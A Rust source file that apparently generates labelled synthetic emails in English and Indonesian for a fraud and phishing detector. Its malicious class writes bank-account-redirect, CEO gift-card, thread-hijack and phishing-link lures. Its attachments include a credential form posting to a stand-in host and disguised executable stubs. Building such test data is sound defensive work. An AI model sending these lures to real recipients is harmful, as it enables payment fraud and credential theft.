//! What each class of the second generator writes.

use super::{
    ACCOUNT_FORMS, Draft, EN_REDIRECT, EN_USUAL, FREE, ID_REDIRECT, ID_USUAL, OTHER_BANKS, SHOP,
    Vendor, Xs, fill, twist,
};

type Vars<'a> = [(&'a str, String)];

fn with(vars: &Vars<'_>, bank: (&str, &str), r: &mut Xs) -> Vec<(&'static str, String)> {
    let mut out: Vec<(&'static str, String)> = vars
        .iter()
        .filter(|(k, _)| !matches!(*k, "bankname" | "num" | "acct"))
        .map(|(k, v)| {
            let k: &'static str = match *k {
                "who" => "who",
                "co" => "co",
                "ref" => "ref",
                "amount" => "amount",
                "date" => "date",
                _ => "last4",
            };
            (k, v.clone())
        })
        .collect();
    out.push(("bankname", bank.0.to_string()));
    out.push(("num", bank.1.to_string()));
    let acct = fill(r.s(ACCOUNT_FORMS), &out);
    out.push(("acct", acct));
    out
}

fn signoff(r: &mut Xs, v: &Vendor, id: bool) -> String {
    let base = if id {
        format!("\n\nSalam hangat,\n{}\n{}", v.person, v.co)
    } else {
        format!("\n\nBest,\n{}\n{} | Finance", v.person, v.co)
    };
    if r.p(30) {
        format!(
            "{base}\n\nThis e-mail and any attachments are confidential and intended solely for the addressee."
        )
    } else {
        base
    }
}

fn hello(r: &mut Xs, id: bool) -> &'static str {
    if id {
        r.s(&[
            "Selamat siang Bu,",
            "Halo Pak Rudi,",
            "Kepada Yth. Tim Sehat Alami,",
            "Pagi kak,",
        ])
    } else {
        r.s(&[
            "Hi Rudi,",
            "Dear Sehat Alami finance,",
            "Good afternoon,",
            "Hello team,",
        ])
    }
}

fn quoted(r: &mut Xs, id: bool) -> String {
    if !r.p(35) {
        return String::new();
    }
    if id {
        "\n\nPada Sen, 7 Des 2026 pukul 09.12, Keuangan Sehat Alami menulis:\n> Mohon info untuk tagihan bulan ini ya.\n> Terima kasih".into()
    } else {
        "\n\nOn Mon, 7 Dec 2026 at 09:12, Sehat Alami Finance wrote:\n> Could you send this month's invoice please?\n> Thanks".into()
    }
}

fn redirect_text(r: &mut Xs, v: &Vendor, id: bool, vars: &Vars<'_>) -> String {
    let bank = *r.of(OTHER_BANKS);
    let vs = with(vars, bank, r);
    let t = fill(
        if id {
            r.s(ID_REDIRECT)
        } else {
            r.s(EN_REDIRECT)
        },
        &vs,
    );
    format!(
        "{}\n\n{t}{}{}",
        hello(r, id),
        signoff(r, v, id),
        quoted(r, id)
    )
}

fn pass(d: &str) -> String {
    format!(
        "Authentication-Results: mx1.{}; spf=pass smtp.mailfrom={d}; dkim=pass header.d={d}; dmarc=pass (p=none) header.from={d}",
        SHOP.1
    )
}

/// A malicious mail: (class, draft, asks for a bank change).
pub fn bad(r: &mut Xs, v: &Vendor, id: bool, vars: &Vars<'_>) -> (&'static str, Draft, bool) {
    let subj = if id {
        r.s(&[
            "Konfirmasi pembayaran",
            "Info penting terkait tagihan",
            "Update data vendor",
            "Tagihan bulan ini",
        ])
    } else {
        r.s(&[
            "Payment confirmation",
            "Remittance update",
            "Vendor record update",
            "This month's invoice",
        ])
    };
    match r.n(10) {
        0 | 1 => {
            let fake = twist(r, v.domain);
            let d = Draft::new(
                format!(
                    "\"{}\" <{}@{fake}>",
                    v.co,
                    r.s(&["accounts", "ar", "keuangan"])
                ),
                subj,
                redirect_text(r, v, id, vars),
            );
            ("c2_lookalike_redirect", d, true)
        }
        2 | 3 => {
            let mut d = Draft::new(
                format!("{} <{}@{}>", v.person, v.person.to_lowercase(), v.domain),
                subj,
                redirect_text(r, v, id, vars),
            );
            d.headers.push(pass(v.domain));
            ("c2_compromised_redirect", d, true)
        }
        4 => {
            let from = if r.p(50) {
                v.domain.to_string()
            } else {
                twist(r, v.domain)
            };
            let d = Draft::new(
                format!("{} <{}@{from}>", v.co, v.person.to_lowercase()),
                format!("RE: {subj}"),
                redirect_text(r, v, id, vars),
            );
            ("c2_thread_hijack", d, true)
        }
        5 => {
            let d = Draft::new(
                format!(
                    "\"{}\" <{}.{}@{}>",
                    v.co,
                    v.person.to_lowercase(),
                    r.s(&["acc", "finance", "kantor"]),
                    r.s(FREE)
                ),
                subj,
                redirect_text(r, v, id, vars),
            );
            ("c2_freemail_redirect", d, true)
        }
        6 => {
            let ask = if id {
                r.s(&[
                    "Saya lagi di bandara, tidak bisa angkat telepon. Tolong bantu transfer Rp 38.000.000 ke vendor baru sekarang, nanti saya jelaskan.",
                    "Bisa tolong belikan voucher Google Play 5 x Rp 1.000.000? Ini untuk klien, jangan bilang siapa-siapa dulu.",
                    "Ada pembayaran penting yang harus selesai sebelum jam 2 siang. Balas email ini saja, saya tidak bisa ditelepon.",
                ])
            } else {
                r.s(&[
                    "Are you at your desk? I need a wire sent to a new vendor before noon. I'm tied up in meetings, so email only.",
                    "I need you to pick up some Apple gift cards for a client today. Keep this between us for now.",
                    "Please process an urgent transfer today, I'll send the details. Don't call, I'm on a flight.",
                ])
            };
            let d = Draft::new(
                format!(
                    "\"{} {}\" <{}.{}@{}>",
                    SHOP.2,
                    r.s(&["(Direktur)", "CEO", "", "- Owner"]),
                    "rudi",
                    r.s(&["hartono", "sa", "office"]),
                    r.s(FREE)
                ),
                if id { "Perlu bantuan" } else { "Quick favour" },
                format!("{ask}\n\nRudi\nDikirim dari iPhone saya"),
            );
            ("c2_ceo", d, false)
        }
        7 => {
            let (shown, brand) = *r.of(&[
                ("https://ib.bankmandiri.co.id/login", "Bank Mandiri"),
                ("https://seller.shopee.co.id/portal", "Shopee Seller"),
                ("https://www.klikbca.com", "KlikBCA"),
                ("https://accounts.google.com", "Google"),
            ]);
            let evil = r.s(&[
                "http://203.0.113.77/auth/",
                "https://secure-docs-view.top/s/9f",
                "https://mandiri-verifikasi.xyz/ib",
                "https://tinyurl.com/y8k2m",
            ]);
            let words = if id {
                "Untuk menghindari penonaktifan, konfirmasi data Anda di"
            } else {
                "To avoid deactivation, confirm your details at"
            };
            let html = format!("<p>{words} <a href=\"{evil}\">{shown}</a></p><p>{brand}</p>");
            let mut d = Draft::new(
                format!(
                    "{brand} <noreply@{}>",
                    r.s(&[
                        "notice-center.online",
                        "secure-mail-id.com",
                        "alerts-service.net"
                    ])
                ),
                if id {
                    "Tindakan diperlukan pada akun Anda"
                } else {
                    "Action required on your account"
                },
                format!("{words} {shown}\n\n{brand}"),
            );
            d.html = Some(html);
            ("c2_phish_link", d, false)
        }
        8 => {
            let (name, data): (String, Vec<u8>) = match r.n(5) {
                0 => ("Remittance_Advice.htm".into(), b"<html><body><form method=post action='https://c.example/x'><input name=pw type=password></form><script>document.forms[0]</script></body></html>".to_vec()),
                1 => ("Rekap_Tagihan.xlsm".into(), b"PK\x03\x04\x14\x00xl/vbaProject.bin".to_vec()),
                2 => ("Invoice.pdf            .exe".into(), b"MZ\x90\x00\x03".to_vec()),
                3 => ("Scan_PO.js".into(), b"var s=WScript.CreateObject('WScript.Shell');".to_vec()),
                _ => ("Bukti_Transfer.vbs".into(), b"CreateObject(\"WScript.Shell\")".to_vec()),
            };
            let mut d = Draft::new(
                format!(
                    "{} <{}@{}>",
                    v.co,
                    r.s(&["admin", "scan"]),
                    if r.p(50) {
                        v.domain.to_string()
                    } else {
                        twist(r, v.domain)
                    }
                ),
                if id {
                    "Dokumen pembayaran"
                } else {
                    "Payment documents"
                },
                format!(
                    "{}\n\n{}{}",
                    hello(r, id),
                    if id {
                        "Mohon dicek dokumen terlampir."
                    } else {
                        "Please review the attached document."
                    },
                    signoff(r, v, id)
                ),
            );
            d.files.push((name, data));
            ("c2_attachment", d, false)
        }
        _ => {
            let mut d = Draft::new(
                format!("{} <{}@{}>", v.co, v.person.to_lowercase(), v.domain),
                subj,
                redirect_text(r, v, id, vars),
            );
            d.headers.push(format!(
                "Reply-To: {}.{}@{}",
                v.person.to_lowercase(),
                v.domain.split('.').next().unwrap_or("x"),
                r.s(FREE)
            ));
            ("c2_reply_to_redirect", d, true)
        }
    }
}

/// A benign mail: (class, draft, asks for a bank change — only the genuine notice does).
pub fn good(r: &mut Xs, v: &Vendor, id: bool, vars: &Vars<'_>) -> (&'static str, Draft, bool) {
    match r.n(11) {
        0..=2 => {
            let vs = with(vars, v.bank, r);
            let t = fill(if id { r.s(ID_USUAL) } else { r.s(EN_USUAL) }, &vs);
            let text = format!(
                "{}\n\n{t}{}{}",
                hello(r, id),
                signoff(r, v, id),
                quoted(r, id)
            );
            let mut d = Draft::new(
                format!("{} <billing@{}>", v.co, v.domain),
                fill(
                    if id {
                        "Invoice {ref}"
                    } else {
                        "Invoice {ref} - {co}"
                    },
                    &vs,
                ),
                text,
            );
            if r.p(50) {
                d.headers.push(pass(v.domain));
            }
            if r.p(40) {
                d.files.push((fill("{ref}.pdf", &vs), b"%PDF-1.7\n%\xe2\xe3\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF".to_vec()));
            }
            ("c2_invoice", d, false)
        }
        3 => {
            let vs = with(vars, v.bank, r);
            let (who, dom, t) = if id {
                *r.of(&[
                    ("Shopee", "shopee.co.id", "Dana penjualan sebesar {amount} telah ditransfer ke rekening Anda ****{last4}. Mulai bulan depan pencairan dilakukan setiap hari kerja."),
                    ("Midtrans", "midtrans.com", "Settlement harian sebesar {amount} sudah kami kirim ke rekening Anda berakhiran {last4}."),
                ])
            } else {
                *r.of(&[
                    ("Xendit", "xendit.co", "Your payout of {amount} has been sent to your bank account ending in {last4}. From now on payouts will arrive every Monday."),
                    ("Tokopedia", "tokopedia.com", "A withdrawal of {amount} to your account ending {last4} was successful."),
                ])
            };
            let d = Draft::new(
                format!("{who} <no-reply@{dom}>"),
                if id {
                    "Pencairan dana berhasil"
                } else {
                    "Payout sent"
                },
                fill(t, &vs),
            );
            ("c2_payout", d, false)
        }
        4 => {
            let (c, dom) = *r.of(&[
                ("J&T Express", "jet.co.id"),
                ("Ninja Xpress", "ninjaxpress.co"),
                ("Lion Parcel", "lionparcel.com"),
            ]);
            let awb = r.next() % 1_000_000_000_000;
            let t = if id {
                format!(
                    "Kiriman {awb} sedang menuju alamat tujuan dan akan segera diantar hari ini. Pantau di https://www.{dom}/track/{awb}"
                )
            } else {
                format!(
                    "Shipment {awb} is out for delivery today. Follow it at https://www.{dom}/track/{awb}"
                )
            };
            let mut d = Draft::new(
                format!("{c} <notifikasi@{dom}>"),
                if id {
                    "Paket sedang diantar"
                } else {
                    "Out for delivery"
                },
                t,
            );
            d.headers
                .push(format!("Return-Path: <bounce-{awb}@mailer.{dom}>"));
            ("c2_courier", d, false)
        }
        5 => {
            let t = if id {
                r.s(&[
                    "Kak, saya sudah transfer ke BCA toko tadi pagi, mohon segera diproses ya. Makasih",
                    "Halo min, saya ganti alamat pengiriman, tolong kirim ke alamat baru di Depok ya. Urgent soalnya buat kado.",
                    "Permisi, apakah bisa bayar di tempat? Kalau tidak, transfer ke rekening mana? Mohon segera dibalas.",
                ])
            } else {
                r.s(&[
                    "Hi, I paid by bank transfer this morning, could you ship asap please?",
                    "Hello, I moved house last week - please send my order to the new address. Thanks!",
                    "Do you accept transfers to a different bank than BCA? Need to order urgently.",
                ])
            };
            let name = r.s(&["Dewi", "Arif", "Lestari", "Bayu"]);
            let d = Draft::new(
                format!("{name} <{}{}@{}>", name.to_lowercase(), r.n(99), r.s(FREE)),
                if id { "Tanya pesanan" } else { "My order" },
                t.to_string(),
            );
            ("c2_customer", d, false)
        }
        6 => {
            let t = if id {
                r.s(&[
                    "Teman-teman, rapat evaluasi supplier dipindah ke Kamis jam 3. Tolong bawa daftar pembayaran bulan ini.",
                    "Rekap transfer ke supplier minggu ini sudah saya upload ke folder keuangan. Ada perubahan jadwal stok opname, cek kalender ya.",
                ])
            } else {
                r.s(&[
                    "The supplier review moved to Thursday 3pm. Please bring this month's payment list.",
                    "I've uploaded the weekly transfer summary. Note the stock-take date changed, see the calendar.",
                ])
            };
            let d = Draft::new(
                format!("Sinta <sinta@{}>", SHOP.1),
                if id { "Jadwal rapat" } else { "Meeting" },
                t.to_string(),
            );
            ("c2_internal", d, false)
        }
        7 => {
            let (svc, dom) = *r.of(&[("Moka POS", "mokapos.com"), ("Majoo", "majoo.id")]);
            let t = if id {
                "Fitur laporan baru sudah tersedia. Coba sekarang, promo langganan tahunan hanya sampai akhir bulan."
            } else {
                "New reporting features are live. Try them now - annual plan discount ends this month."
            };
            let mut d = Draft::new(
                format!("{svc} <news@{dom}>"),
                if id {
                    "Yang baru bulan ini"
                } else {
                    "What's new this month"
                },
                t.to_string(),
            );
            d.html = Some(format!(
                "<p>{t}</p><p><a href=\"https://links.{dom}/ls/click?u=4f&id=99\">Baca selengkapnya</a> · <a href=\"https://links.{dom}/unsub\">Berhenti berlangganan</a></p>"
            ));
            d.headers
                .push(format!("List-Unsubscribe: <https://links.{dom}/unsub>"));
            ("c2_newsletter", d, false)
        }
        8 => {
            let (svc, dom, t) = if id {
                *r.of(&[("Google", "accounts.google.com", "Login baru ke akun Anda dari Chrome di Windows. Jika ini Anda, abaikan. Jika bukan, amankan akun Anda di myaccount.google.com.")])
            } else {
                *r.of(&[("Jurnal", "jurnal.id", "Use this code to finish signing in: 482913. It expires in 10 minutes. If you didn't try to sign in, change your password.")])
            };
            let d = Draft::new(
                format!("{svc} <no-reply@{dom}>"),
                if id {
                    "Peringatan keamanan"
                } else {
                    "Your sign-in code"
                },
                t.to_string(),
            );
            ("c2_security", d, false)
        }
        9 => {
            let vs = with(vars, v.bank, r);
            let t = if id {
                r.s(&[
                    "Mulai {date} kantor kami pindah ke Jl. Gatot Subroto 21, Bandung. Nomor telepon dan rekening tidak ada perubahan.",
                    "Terlampir katalog 2027. Ada penyesuaian harga untuk beberapa produk mulai Januari, pembayaran tetap ke {acct}.",
                ])
            } else {
                r.s(&[
                    "Please note our new 2027 catalogue is attached. Prices change from 1 January; payment terms remain 30 days.",
                    "Our warehouse has moved to Cikarang. Deliveries continue as normal and our bank details have not changed.",
                ])
            };
            let text = format!("{}\n\n{}{}", hello(r, id), fill(t, &vs), signoff(r, v, id));
            let mut d = Draft::new(
                format!("{} <info@{}>", v.co, v.domain),
                if id { "Pemberitahuan" } else { "Announcement" },
                text,
            );
            d.headers.push(pass(v.domain));
            ("c2_vendor_news", d, false)
        }
        _ => {
            let mut text = redirect_text(r, v, id, vars);
            text.push_str(if id {
                "\n\nSilakan konfirmasi ke nomor kantor kami yang ada di kontrak."
            } else {
                "\n\nPlease confirm by calling the number in our contract."
            });
            let mut d = Draft::new(
                format!("{} <finance@{}>", v.co, v.domain),
                if id {
                    "Pemberitahuan rekening"
                } else {
                    "Bank details notice"
                },
                text,
            );
            d.headers.push(pass(v.domain));
            ("c2_genuine_change", d, true)
        }
    }
}
